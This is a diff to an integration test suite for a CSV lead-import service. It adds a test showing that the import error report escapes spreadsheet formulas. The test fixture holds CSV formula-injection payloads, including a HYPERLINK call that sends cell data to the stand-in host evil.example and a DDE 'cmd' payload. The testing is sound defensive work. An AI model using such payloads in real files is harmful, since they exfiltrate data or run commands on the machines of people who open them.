@@ -3,10 +3,11 @@ import Redis from 'ioredis';
 import { parse } from 'csv-parse/sync';
 import { existsSync, readdirSync } from 'node:fs';
 import { join } from 'node:path';
+import { escapeCsvFormula } from '../src/common/csv-cell';
 import { BATCH_MAX_ROWS } from '../src/imports/import-processor';
 import { signatureHeader } from '../src/webhooks/webhook-signature';
 import type { Answer, Registered } from './stack';
-import { IntakeStack } from './stack';
+import { IntakeStack, testRedisUrl } from './stack';
 
 interface CreatedWebhook {
   id: string;
@@ -494,8 +495,16 @@ describe('CSV imports (gateway + identity + ingestion, real PostgreSQL, Kafka, R
       await ingestion.exited;
       await stack.startProcess('ingestion-0');
     }
-    expect(await importOf(token, id)).toMatchObject({ status: 'running', processed: atKill });
     expect(atKill).toBeLessThan(100_000);
+    // The restarted worker resumes during bootstrap: wait for it to move on from the last
+    // committed batch (never back below it) rather than catch it before it does.
+    const resumed = await eventually(
+      () => importOf(token, id),
+      (i) => i.processed > atKill || i.status !== 'running',
+      { timeoutMs: 60_000, intervalMs: 50, what: 'the import to resume after the restart' },
+    );
+    expect(['running', 'completed']).toContain(resumed.status);
+    expect(resumed.processed).toBeGreaterThan(atKill);
 
     const done = await finished(token, id);
     const seconds = (Date.now() - started) / 1000;
@@ -605,7 +614,8 @@ describe('CSV imports (gateway + identity + ingestion, real PostgreSQL, Kafka, R
       const row = refused[index];
       const { field, rule } = REFUSAL[row.kind];
       expect(line[1]).toMatch(new RegExp(`^${field}: .* \\(${rule}\\)$`));
-      expect(line.slice(2)).toEqual(row.values);
+      // As sent, but neutralized where a spreadsheet would read a formula (`+1 555 …` phones).
+      expect(line.slice(2)).toEqual(row.values.map(escapeCsvFormula));
     });
 
     // The file is gone; the list shows the import.
@@ -613,6 +623,38 @@ describe('CSV imports (gateway + identity + ingestion, real PostgreSQL, Kafka, R
     const list = await api<{ items: ImportView[] }>('GET', '/api/v1/imports?limit=5', token);
     expect(list.body.items.map((i) => i.id)).toEqual([id]);
   }, 240_000);
+
+  it("neutralizes the vendor's spreadsheet formulas in the error report, as the lead export does", async () => {
+    const owner = await stack.register('fiona');
+    const webhook = await createWebhook(owner);
+    const csv = Buffer.from(
+      [
+        ['first_name', 'phone', '@notes'],
+        ['=HYPERLINK("http://evil.example/?"&A1,"click")', '555-12', "+cmd|' /C calc'!A0"],
+        ['-2+3', '555-13', '@SUM(1+1)'],
+        ['Ann', '+1 555 12', 'plain'],
+      ]
+        .map(csvLine)
+        .join('\r\n') + '\r\n',
+    );
+    const created = await upload(owner.accessToken, { webhookId: webhook.id, file: csv });
+    expect(created.status).toBe(202);
+    expect(await finished(owner.accessToken, created.body.id)).toMatchObject({
+      status: 'completed',
+      rejected: 3,
+    });
+    const report = await fetch(`${stack.gateway}/api/v1/imports/${created.body.id}/errors`, {
+      headers: { authorization: `Bearer ${owner.accessToken}` },
+    });
+    expect(report.status).toBe(200);
+    const lines = parse(await report.text(), { relax_column_count: true }) as string[][];
+    expect(lines[0]).toEqual(['row', 'errors', 'first_name', 'phone', "'@notes"]);
+    expect(lines.slice(1).map((l) => [l[0], ...l.slice(2)])).toEqual([
+      ['1', `'=HYPERLINK("http://evil.example/?"&A1,"click")`, '555-12', `'+cmd|' /C calc'!A0`],
+      ['2', "'-2+3", '555-13', "'@SUM(1+1)"],
+      ['3', 'Ann', "'+1 555 12", 'plain'],
+    ]);
+  });
 
   it("counts imported leads toward the organization's monthly lead quota, as webhook posts are", async () => {
     const owner = await stack.register('quinn');
@@ -631,7 +673,7 @@ describe('CSV imports (gateway + identity + ingestion, real PostgreSQL, Kafka, R
     });
     expect(started.status).toBe(202);
     expect(await finished(owner.accessToken, started.body.id)).toMatchObject({ accepted: 3, rejected: 1 });
-    const redis = new Redis('redis://127.0.0.1:6379');
+    const redis = new Redis(testRedisUrl());
     try {
       const month = new Date().toISOString().slice(0, 7);
       const quotaKey = `${stack.redisPrefix}quota:${owner.organization.id}:${month}`;
@@ -676,7 +718,7 @@ describe('CSV imports (gateway + identity + ingestion, real PostgreSQL, Kafka, R
     const lines = [csvLine(HEADER)];
     for (let i = 1; i <= size; i++)
       lines.push(csvLine([`U${i}`, '', phone(628, i).text, '', '', '', '', '', '', '', '', '']));
-    const redis = new Redis('redis://127.0.0.1:6379');
+    const redis = new Redis(testRedisUrl());
     try {
       const month = new Date().toISOString().slice(0, 7);
       const quotaKey = `${stack.redisPrefix}quota:${owner.organization.id}:${month}`;
